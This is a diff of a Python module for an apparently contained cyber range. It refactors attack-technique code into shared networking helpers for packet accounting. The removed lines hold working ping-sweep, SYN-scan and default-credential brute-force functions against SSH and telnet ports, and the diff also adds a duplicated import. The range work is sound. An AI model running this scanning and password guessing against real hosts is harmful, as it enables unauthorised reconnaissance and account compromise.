@@ -1,24 +1,15 @@
-"""Attack techniques, run inside the actor's network namespace by ``cyberrange.attack.agent``.
+"""Machinery shared by the technique families: results and exact flow accounting, routing of
+targets to next hops, one batched ARP resolution, a raw-socket receiver, reused layer-2 sockets
+with pacing, and kernel TCP connections counted with TCP_INFO.
 
-Each technique takes its targets (already checked by the containment guard), its parameters
-(catalog defaults filled in) and returns a :class:`Result`: an outcome, the facts it learned and
-the exact IPv4 packets it sent, per 5-tuple (the ledger's ``flows``). Sensors capture the same
-packets; scoring and the tests compare the two counts per 5-tuple, so the accounting below is
-exact, not an estimate (byte counts of kernel TCP connections are the one documented estimate).
-
-- ``T1018`` ping sweep and ``T1046`` SYN scan craft frames with scapy: addresses are resolved once
-  (one batched ARP exchange), every frame is built up front and its bytes are written through ONE
-  reused layer-2 socket, paced at ``rate``; a sniffer on the same interface collects answers.
-- ``T1110.001`` password guessing uses real kernel TCP connections (a login needs a real TCP
-  stream); the kernel's own segment counter (TCP_INFO ``tcpi_segs_out``) gives the exact count.
-
-See docs/techniques.md.
+Every family module (``discovery``, ``credential``, ...) builds on these; see docs/techniques.md.
 """
+from __future__ import annotations
+
 from __future__ import annotations
 
 import errno
 import ipaddress
-import random
 import select
 import socket
 import struct
@@ -245,40 +236,7 @@ def _short(items: list[str], n: int = 8) -> str:
     return ", ".join(items[:n]) + (f" and {len(items) - n} more" if len(items) > n else "")
 
 
-# --------------------------------------------------------------------------- T1018 ping sweep
-def ping_sweep(targets: list[str], params: dict) -> Result:
-    from scapy.layers.inet import ICMP, IP
-    from scapy.layers.l2 import Ether
-    res = Result(start=time.time())
-    timeout = float(params.get("timeout", 1.0))
-    rate = float(params.get("rate", 500))
-    hops = route_targets(_unique_ips(targets), res.log)
-    macs = resolve_hops(hops, timeout, res.log)
-    icmp_id = random.randint(1, 0xFFFF)
-
-    def build(n, h, src_mac, dst_mac):
-        return bytes(Ether(src=src_mac, dst=dst_mac)
-                     / IP(src=h.src, dst=h.ip, id=random.randint(0, 0xFFFF), ttl=64)
-                     / ICMP(type=8, code=0, id=icmp_id, seq=(n + 1) & 0xFFFF))
-    frames = _frames_for(hops, macs, build, res.log)
-
-    wanted = {h.ip for h, _i, _f in frames}
-    replied: set[str] = set()
-
-    def on_ip(src, proto, l4):
-        # ICMP echo reply (type 0) carrying our identifier
-        if proto == 1 and l4[0] == 0 and src in wanted and struct.unpack("!H", l4[4:6])[0] == icmp_id:
-            replied.add(src)
-
-    _run_l2(frames, rate, timeout, on_ip, res.log)
-    res.flows = [flow(h.src, h.ip, "icmp", 8, 0, 1, len(f)) for h, _i, f in frames]
-    res.facts = {"hosts": [h.ip for h in hops if h.ip in replied]}
-    via_gw = any(h.gw for h, _i, _f in frames)
-    res.outcome = "succeeded" if replied else ("blocked" if via_gw else "failed")
-    res.end = time.time()
-    return res
-
-
+# --------------------------------------------------------------------------- paced layer-2 runs
 def _run_l2(frames, rate, timeout, on_ip, log) -> None:
     """Open sessions on the interfaces used, send paced, wait ``timeout``, close."""
     if not frames:
@@ -299,88 +257,7 @@ def _run_l2(frames, rate, timeout, on_ip, log) -> None:
                            f"lower the rate")
 
 
-# --------------------------------------------------------------------------- T1046 SYN scan
-# The actor's kernel has no socket on the scan's source port, so it answers every SYN-ACK with
-# one RST (Ether 14 + IP 20 + TCP 20, no options). The ledger counts it: it is the actor's packet.
-KERNEL_RST_FRAME_BYTES = 54
-
-
-def syn_scan(targets: list[str], params: dict) -> Result:
-    from scapy.layers.inet import IP, TCP
-    from scapy.layers.l2 import Ether
-    res = Result(start=time.time())
-    timeout = float(params.get("timeout", 1.0))
-    rate = float(params.get("rate", 500))
-    ports = [int(p) for p in params.get("ports", [22, 80, 443])]
-    hops = route_targets(_unique_ips(targets), res.log)
-    macs = resolve_hops(hops, timeout, res.log)
-    sport = random.randint(40000, 60999)
-    probes = [(h, p) for h in hops for p in ports]
-
-    def build(n, hp, src_mac, dst_mac):
-        h, port = hp
-        return bytes(Ether(src=src_mac, dst=dst_mac)
-                     / IP(src=h.src, dst=h.ip, id=random.randint(0, 0xFFFF), ttl=64)
-                     / TCP(sport=sport, dport=port, flags="S", seq=random.getrandbits(32),
-                           window=1024, options=[("MSS", 1460)]))
-
-    frames = []
-    for n, (h, port) in enumerate(probes):
-        mac = macs.get(h.iface, {}).get(h.next_hop)
-        if mac is None:
-            continue
-        frames.append((h, port))
-    if len(frames) < len(probes):
-        missing = sorted({h.ip for h, _p in probes} - {h.ip for h, _p in frames})
-        res.log.append(f"{len(missing)} targets did not answer ARP (only ARP sent): {_short(missing)}")
-    from scapy.arch import get_if_hwaddr
-    my_macs = {i: get_if_hwaddr(i) for i in {h.iface for h, _p in frames}}
-    built = [(h, h.iface, build(0, (h, p), my_macs[h.iface], macs[h.iface][h.next_hop]), p)
-             for h, p in frames]
-
-    wanted = {h.ip for h, _p in frames}
-    synacks: dict[tuple[str, int], int] = {}
-    rsts: dict[tuple[str, int], int] = {}
-    unreach: set[str] = set()
-    lock = threading.Lock()
-
-    def on_ip(src, proto, l4):
-        with lock:
-            if proto == 6 and src in wanted:
-                their_port, our_port = struct.unpack("!HH", l4[0:4])
-                if our_port != sport:
-                    return
-                flags = l4[13]
-                if flags & 0x12 == 0x12:
-                    synacks[(src, their_port)] = synacks.get((src, their_port), 0) + 1
-                elif flags & 0x04:
-                    rsts[(src, their_port)] = rsts.get((src, their_port), 0) + 1
-            elif proto == 1 and l4[0] == 3:
-                unreach.add(src)
-
-    _run_l2([(h, i, f) for h, i, f, _p in built], rate, timeout, on_ip, res.log)
-    res.log.append(f"source port {sport}; {len(synacks)} SYN-ACK 5-tuples, "
-                   f"{len(rsts)} RST, {len(unreach)} ICMP-unreachable senders")
-    for h, _i, f, port in built:
-        n_synack = synacks.get((h.ip, port), 0)
-        res.flows.append(flow(h.src, h.ip, "tcp", sport, port, 1 + n_synack,
-                              len(f) + n_synack * KERNEL_RST_FRAME_BYTES))
-    open_ = [f"{h.ip}:{p}" for h, _i, _f, p in built if (h.ip, p) in synacks]
-    res.facts = {"open": open_,
-                 "hosts": list(dict.fromkeys(o.rsplit(":", 1)[0] for o in open_))}
-    answered = bool(synacks or rsts)
-    via_gw = any(h.gw for h, _i, _f, _p in built)
-    if open_:
-        res.outcome = "succeeded"
-    elif not answered and built and (via_gw or unreach):
-        res.outcome = "blocked"
-    else:
-        res.outcome = "failed"
-    res.end = time.time()
-    return res
-
-
-# --------------------------------------------------------------------------- T1110.001 brute force
+# --------------------------------------------------------------------------- kernel TCP connections (TCP_INFO)
 TCP_ESTABLISHED, TCP_SYN_SENT, TCP_SYN_RECV, TCP_FIN_WAIT1, TCP_FIN_WAIT2 = 1, 2, 3, 4, 5
 TCP_CLOSE_WAIT = 8
 # States in which close() with SO_LINGER (1, 0) sends one RST (kernel tcp_need_reset()).
@@ -525,68 +402,6 @@ def login_attempt(ip: str, port: int, user: str, password: str,
     return status, c.close()
 
 
-def brute_force(targets: list[str], params: dict) -> Result:
-    res = Result(start=time.time())
-    ports = [int(p) for p in params.get("ports", [22, 23, 2222])]
-    users = [str(u) for u in params.get("usernames", ["root", "admin"])]
-    passwords = [str(p) for p in params.get("passwords", ["password", "123456", "admin"])]
-    pause = float(params.get("pause", 0.05))
-    stop_on_success = bool(params.get("stop_on_success", True))
-    connect_timeout = float(params.get("connect_timeout", 2.5))  # between SYN RTOs 1 s and 3 s
-    io_timeout = float(params.get("io_timeout", 5.0))
-
-    services: list[tuple[str, int]] = []
-    for t in targets:
-        t = str(t)
-        if ":" in t:
-            ip, port = t.rsplit(":", 1)
-            if int(port) in ports:
-                services.append((ip, int(port)))
-            else:
-                res.log.append(f"{t}: port not in params.ports {ports}; skipped")
-        else:
-            services.extend((t, p) for p in ports)
-    services = list(dict.fromkeys(services))
-
-    creds, unreachable, attempts = [], 0, 0
-    first = True
-    for ip, port in services:
-        dead = False
-        for user in users:
-            if dead:
-                break
-            for pw in passwords:
-                if not first and pause > 0:
-                    time.sleep(pause)
-                first = False
-                status, fl = login_attempt(ip, port, user, pw, connect_timeout, io_timeout)
-                attempts += 1
-                res.flows.append(fl)
-                if status == "ok":
-                    creds.append({"target": f"{ip}:{port}", "user": user, "password": pw})
-                    if stop_on_success:
-                        break
-                elif status in ("refused", "timeout", "unreachable", "not-login"):
-                    res.log.append(f"{ip}:{port}: {status} after {fl['packets']} packet(s); "
-                                   f"no further guesses at this service")
-                    if status != "not-login":
-                        unreachable += 1
-                    dead = True
-                    break
-    res.log.append(f"{attempts} attempts at {len(services)} services, {len(creds)} credentials")
-    res.facts = {"credentials": creds,
-                 "compromised": list(dict.fromkeys(c["target"].rsplit(":", 1)[0] for c in creds))}
-    if creds:
-        res.outcome = "succeeded"
-    elif services and unreachable == len(services):
-        res.outcome = "blocked"
-    else:
-        res.outcome = "failed"
-    res.end = time.time()
-    return res
-
-
-# --------------------------------------------------------------------------- dispatch
 def _unique_ips(targets: list[str]) -> list[str]:
     """Target strings (ip, ip:port or CIDR) -> unique IPs, in order."""
     out = []
@@ -596,10 +411,3 @@ def _unique_ips(targets: list[str]) -> list[str]:
         else:
             out.append(str(ipaddress.IPv4Address(t.rsplit(":", 1)[0] if ":" in t else t)))
     return list(dict.fromkeys(out))
-
-
-TECHNIQUE_FUNCS = {
-    "T1018": ping_sweep,
-    "T1046": syn_scan,
-    "T1110.001": brute_force,
-}
